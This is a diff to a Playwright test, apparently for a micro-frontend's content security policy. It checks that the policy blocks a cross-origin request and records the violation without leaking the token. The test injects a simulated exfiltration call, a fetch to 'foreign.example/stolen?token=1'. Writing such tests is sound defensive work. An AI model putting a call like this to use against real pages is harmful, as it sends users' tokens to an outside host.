@@ -120,12 +120,15 @@ test.describe('what the policy refuses (SEC-01)', () => {
     const client = await page.context().newCDPSession(page);
     const expression = `fetch('https://foreign.example/stolen?token=1').catch(() => 0)\n//# sourceURL=${entry}`;
     await client.send('Runtime.evaluate', { expression });
+    const reported = () => operate('violations', '--json');
     await expect
-      .poll(() => operate('violations'), { timeout: 60_000, intervals: [2_000] })
-      .toContain(`mfe-lottery ${decodeURIComponent(release ?? '')}`);
-    const reported = await operate('violations');
-    expect(reported).toContain('connect-src');
-    expect(reported).not.toContain('token=1');
+      .poll(reported, { timeout: 60_000, intervals: [2_000] })
+      .toContain(`"release": "${decodeURIComponent(release ?? '')}"`);
+    const { violations } = JSON.parse(await reported()) as { violations: Record<string, string>[] };
+    expect(violations).toContainEqual(
+      expect.objectContaining({ remote: 'mfe-lottery', directive: 'connect-src' }),
+    );
+    expect(JSON.stringify(violations)).not.toContain('token=1');
   });
 
   test('every answer carries its headers, the page the strictest', async ({ request }) => {
